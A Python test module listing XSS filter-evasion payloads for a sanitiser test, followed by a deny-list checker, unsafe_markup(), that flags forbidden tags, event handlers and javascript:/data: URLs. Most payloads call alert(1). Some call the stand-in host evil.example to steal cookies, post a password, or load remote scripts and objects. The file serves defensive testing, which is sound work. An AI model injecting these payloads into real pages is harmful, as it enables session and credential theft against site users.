"""Real-world XSS payloads for the sanitiser tests, in the style of the OWASP XSS Filter
Evasion Cheat Sheet and the PortSwigger XSS cheat sheet.

Each one is a way an attacker (or a careless paste) has got script, event handlers, dangerous
URLs, styles or foreign frames past an HTML filter. Keep them as written: odd casing, broken
tags, entities and control characters are the point. Every payload must be caught by
`unsafe_markup()` as written (a test checks), so each one is a real attack on the checker too.

`unsafe_markup()` is the checker the tests apply to what the sanitiser stores.
"""

import re
from html.parser import HTMLParser

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<script/src=//evil.example/x.js></script>",
    '<SCRIPT SRC="//evil.example/.j">',
    "<script >alert(1)</script >",
    '<script type="text/javascript">alert(document.cookie)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<p>Harmless text</p><script>fetch('//evil.example?c='+document.cookie)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<p><!-- x --><script>alert(1)</script></p>",
    '<script\x0csrc="//evil.example/x.js"></script>',
    "<script>/*</script><script>*/alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="x" ONERROR="alert(1)">',
    '<img src="x" oNeRrOr="alert(1)" alt="pic">',
    "<img src=x onerror=alert(1)//\n<p>the rest of the article</p>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '<img/src="x"/onerror="alert(1)">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    '<p onmouseover="alert(1)">hover me</p>',
    '<a href="https://example.org" onclick="alert(1)">link</a>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<marquee onstart="alert(1)">x</marquee>',
    '<div onpointerenter="alert(1)">x</div>',
    '<h2 onclick="alert(1)">Heading</h2>',
    '<table background="javascript:alert(1)"><tr><td onmouseover=alert(1)>x</td></tr></table>',
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jAvAsCrIpT:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="java&#x09;script:alert(1)">entity tab</a>',
    '<a href="java&#x0A;script:alert(1)">entity newline</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">hex</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">padded</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="VBScript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="x.jpg" srcset="javascript:alert(1) 1x, /ok.jpg 2x">',
    '<img srcset="data:image/svg+xml,<svg onload=alert(1)> 1x">',
    '<a href="javascript:alert(1)"><img src="/media/editor/x.jpg" alt="linked"></a>',
    '<a href="javascript:void(0)" title="&quot;><script>alert(1)</script>">t</a>',
]

FRAMES_FORMS_AND_OBJECTS = [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<IFRAME SRC="https://www.youtube.com/embed/x" width=560></IFRAME>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
]

STYLE_AND_SVG = [
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<STYLE>@import "https://evil.example/x.css";</STYLE>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1));">ie</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<img src="/ok.jpg" style="behavior:url(x.htc)">',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
    '<math href="javascript:alert(1)">CLICKME</math>',
]

MUTATION_AND_PARSER_TRICKS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<listing><img src=x onerror=alert(1)></listing>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<object><param name=src value=javascript:alert(1)></object>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

PAYLOADS = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + DANGEROUS_URLS
    + FRAMES_FORMS_AND_OBJECTS
    + STYLE_AND_SVG
    + MUTATION_AND_PARSER_TRICKS
)


# --- The checker: what must never be in sanitised output ------------------------------------

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "form", "input", "button", "textarea",
    "select", "svg", "math", "object", "embed", "applet", "param", "base", "meta", "link",
    "template", "noscript", "noembed", "noframes", "xmp", "body", "isindex",
}  # fmt: skip
# The literal text the issue names: even an unparsed fragment of these is a failure.
FORBIDDEN_TEXT = (
    "<script", "<iframe", "<form", "<svg", "<object", "<embed", "<base", "<meta", "<link",
    "<style", "<math",
)  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "srcset", "action", "formaction", "xlink:href", "data", "background",
    "poster", "content", "value", "lowsrc", "dynsrc",
}  # fmt: skip
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]+")


class _TagCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def unsafe_markup(markup: str) -> list[str]:
    """Every reason `markup` is unsafe to render, found by parsing it as a browser would read
    tags and attributes (html.parser unescapes attribute values, so entity tricks show)."""
    problems = [f"text {text!r}" for text in FORBIDDEN_TEXT if text in markup.lower()]
    collector = _TagCollector()
    collector.feed(markup)
    collector.close()
    for tag, attrs in collector.tags:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"event handler {name} on <{tag}>")
            elif name in {"style", "srcdoc"}:
                problems.append(f"{name} attribute on <{tag}>")
            elif name in URL_ATTRIBUTES and value:
                squeezed = _IGNORED_IN_URLS.sub("", value).lower()
                problems.extend(
                    f"{scheme} URL in {name} on <{tag}>"
                    for scheme in DANGEROUS_SCHEMES
                    if scheme in squeezed
                )
    return problems
